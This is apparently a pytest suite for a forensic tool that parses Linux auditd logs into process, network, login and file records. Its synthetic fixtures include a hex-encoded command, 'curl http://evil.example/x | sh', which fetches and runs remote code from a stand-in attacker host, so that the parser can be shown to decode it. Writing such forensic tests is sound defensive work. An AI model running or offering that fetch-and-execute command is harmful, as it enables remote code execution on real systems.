"""The log of the Linux audit system."""

from __future__ import annotations

import pytest
from tests.evidence.artefact_kit import read_member, shows_plant
from tests.evidence.reader_contract import holds_with_and_without_sieve, survives_anything
from tests.evidence_kit import read_bytes

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.linux.audit_fields import peer_of
from nachsorge.evidence.readers.auditd import WIDE, Auditd
from nachsorge.model.evidence import Software
from nachsorge.model.times import Span, parse_instant
from nachsorge.model.words import Kind, Platform, Reason, Status, Telemetry

READER = Auditd()
STAMP = "msg=audit(1680000000.123:{}):"


def hexed(text: str) -> str:
    return text.encode().hex().upper()


def event(serial: int, *lines: str, node: str = "") -> bytes:
    return "".join(
        f"{node}type={line.partition(' ')[0]} {STAMP.format(serial)} {line.partition(' ')[2]}\n" for line in lines
    ).encode()


RUN = event(
    7,
    'SYSCALL arch=c000003e syscall=59 success=yes a0=5581 uid=0 comm="sh" exe="/usr/bin/sh" key=(null)',
    f'EXECVE argc=3 a0="sh" a1="-c" a2={hexed("curl http://evil.example/x | sh")}',
    'CWD cwd="/root"',
    'PATH item=0 name="/usr/bin/sh" nametype=NORMAL',
    f"PROCTITLE proctitle={hexed('sh')}002D63",
)
CONNECT = event(
    8,
    'SYSCALL arch=c000003e syscall=42 success=yes exe="/usr/bin/curl" \x1dARCH=x86_64 SYSCALL=connect UID="root"',
    "SOCKADDR saddr=020001BBC00002050000000000000000",
)
LOG = RUN + CONNECT


def test_the_lines_of_one_event_are_one_record():
    assert reader_for(LOG, "audit.log").name == "auditd"
    (run, connect), ledger = read_bytes(READER, LOG)
    assert (run.telemetry, run.time) == (Telemetry.PROCESS_CREATION, parse_instant("2023-03-28T10:40:00.123Z"))
    assert run.event["CommandLine"] == "sh -c curl http://evil.example/x | sh"
    assert (run.event["Image"], run.event["CurrentDirectory"]) == ("/usr/bin/sh", "/root")
    assert run.event["proctitle"] == "sh -c"
    assert (Kind.PATH, "/usr/bin/sh") in {(v.kind, v.text) for v in run.values}
    assert connect.telemetry is Telemetry.NETWORK_CONNECTION
    assert (connect.event["DestinationIp"], connect.event["DestinationPort"]) == ("192.0.2.5", "443")
    assert (Kind.ADDRESS, "192.0.2.5") in {(v.kind, v.text) for v in connect.values}
    assert (connect.event["UID"], run.product, run.service) == ("root", "linux", "auditd")
    assert (ledger.records, ledger.unreadable, ledger.platform) == (2, 0, Platform.LINUX)


def test_an_enriched_log_names_users_and_calls():
    enriched = LOG.replace(b"key=(null)", b'key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID="kim" UID="root"')
    assert reader_for(enriched, "audit.log").name == "auditd"
    (run, connect), ledger = read_bytes(READER, enriched)
    assert (run.event["AUID"], run.event["SYSCALL"], connect.event["SYSCALL"]) == ("kim", "execve", "connect")
    assert run.event["CommandLine"] == "sh -c curl http://evil.example/x | sh"  # the raw part is what it was
    assert (ledger.records, ledger.unreadable) == (2, 0)


def test_an_interpreted_report_is_searched_as_text_and_covers_nothing():
    report = (
        b"----\ntype=PROCTITLE msg=audit(03/28/2023 12:40:00.123:7) : proctitle=sh -c curl http://evil.example/x\n"
        b"type=SYSCALL msg=audit(03/28/2023 12:40:00.123:7) : arch=x86_64 syscall=execve success=yes exe=/usr/bin/sh\n"
    )
    assert READER.accepts(report, "audit.txt") == 0
    found = reader_for(report, "audit.txt")
    assert found is not None and found.name == "plain_text"
    records, reading = read_member(found, report, "audit.txt")
    assert reading.status is Status.UNKNOWN_FORMAT and "covers nothing" in reading.note
    assert any("http://evil.example/x" in value.text for record in records for value in record.values)
    assert all(not seen.spans for seen in reading.seen)


def test_lines_of_two_events_may_be_mixed():
    lines = LOG.splitlines(keepends=True)
    mixed = b"".join([lines[0], lines[5], *lines[1:5], *lines[6:]])
    records, _ = read_bytes(READER, mixed)
    assert [r.telemetry for r in records] == [Telemetry.PROCESS_CREATION, Telemetry.NETWORK_CONNECTION]
    assert "evil.example" in records[0].event["CommandLine"]


def test_what_is_written_as_hex_passes_the_sieve():
    assert [r.locator for r in read_bytes(READER, LOG, b"evil.example")[0]] == ["line 1"]
    assert [r.locator for r in read_bytes(READER, LOG, b"192.0.2.5")[0]] == ["line 6"]
    split = event(9, 'EXECVE argc=1 a0[0]="http://evil.exa" a0[1]="mple/" a0_len=20')
    assert read_bytes(READER, split, b"evil.example")[0][0].event["CommandLine"] == "http://evil.example/"
    assert read_bytes(READER, LOG, b"nothing")[0] == []


def test_few_programs_prove_and_never_clear():
    _, ledger = read_bytes(READER, LOG)
    assert all(seen.spans == () for seen in ledger.seen())
    assert "may name those alone" in ledger.notes[0]


def test_many_programs_cover_executions_and_nothing_else():
    many = (
        b"".join(event(n, f'SYSCALL arch=c000003e syscall=59 exe="/bin/p{n}"') for n in range(100, 100 + WIDE))
        + CONNECT
    )
    _, ledger = read_bytes(READER, many)
    spans = {seen.telemetry: seen.spans for seen in ledger.seen()}
    time = parse_instant("2023-03-28T10:40:00.123Z")
    assert spans == {Telemetry.PROCESS_CREATION: (Span(time, time),), Telemetry.NETWORK_CONNECTION: ()}


@pytest.mark.parametrize(
    ("off", "on"),
    [
        ("DAEMON_END op=terminate", "DAEMON_START op=start"),
        ("CONFIG_CHANGE audit_enabled=0", "CONFIG_CHANGE audit_enabled=1"),
    ],
)
def test_while_auditing_was_off_is_a_gap(off: str, on: str):
    later = event(2, on).replace(b"1680000000", b"1680003600")
    _, ledger = read_bytes(READER, event(1, off) + later)
    (gap,) = ledger.gaps
    assert (gap.reason, gap.telemetry, gap.span.end - gap.span.start) == (
        Reason.SILENCE,
        Telemetry.PROCESS_CREATION,
        3_600_000_000,
    )


def test_logins_files_software_and_hosts():
    login = 'USER_LOGIN msg=\'op=login acct="kim" exe="/usr/sbin/sshd" hostname=pc.example addr=192.0.2.9\''
    body = (
        event(1, login, node="node=web1 ")
        + event(2, "SYSCALL arch=c000003e syscall=257", 'PATH item=1 name="/etc/cron.d/x" nametype=CREATE')
        + event(3, "SOFTWARE_UPDATE msg='op=install sw=\"xz-5.6.1-1.fc40.x86_64\" sw_type=rpm res=success'")
        + event(4, "SERVICE_START msg='unit=evil comm=\"systemd\"'")
    )
    seen, file, software, other = read_bytes(READER, body)[0]
    assert (seen.telemetry, seen.host) == (Telemetry.AUTHENTICATION, "web1")
    assert {(Kind.HOST, "pc.example"), (Kind.ADDRESS, "192.0.2.9")} <= {(v.kind, v.text) for v in seen.values}
    assert file.telemetry is Telemetry.FILE_EVENT
    assert (Kind.PATH, "/etc/cron.d/x") in {(v.kind, v.text) for v in file.values}
    assert software.software == Software(name="xz", version="5.6.1-1.fc40", platform=Platform.LINUX)
    assert (other.telemetry, other.event["unit"]) == (Telemetry.SYSLOG, "evil")


@pytest.mark.parametrize(
    ("saddr", "peer"),
    [
        ("020001BBC00002050000000000000000", ("192.0.2.5", "443")),
        ("000201BBC00002050000000000000000", ("192.0.2.5", "443")),
        ("0A00003500000000" + "20010DB8" + "0" * 23 + "1" + "00000000", ("2001:db8::1", "53")),
        ("01002F72756E2F78" + "00" * 4, ("/run/x", "")),
        ("0200", ("", "")),
        ("020001BB", ("", "")),
        ("zz", ("", "")),
    ],
)
def test_socket_addresses(saddr: str, peer: tuple[str, str]):
    assert peer_of(saddr) == peer


def test_strange_lines_are_counted_located_and_searched():
    strange = b"type=X msg=audit(): http://evil.example/\n\n----\ntime->Mon\n"
    records, ledger = read_bytes(READER, RUN + strange + CONNECT, b"evil")
    assert (ledger.records, ledger.unreadable, ledger.unreadable_at) == (3, 1, ["line 6"])
    assert records[0].telemetry is Telemetry.TEXT


def test_contract():
    body = LOG + event(9, "SERVICE_START msg='unit=plain'")
    holds_with_and_without_sieve(READER, body, b"/usr/bin/curl")
    survives_anything(READER, body)
    shows_plant(READER, body)
    shows_plant(READER, b"node=x type=SYSCALL ")
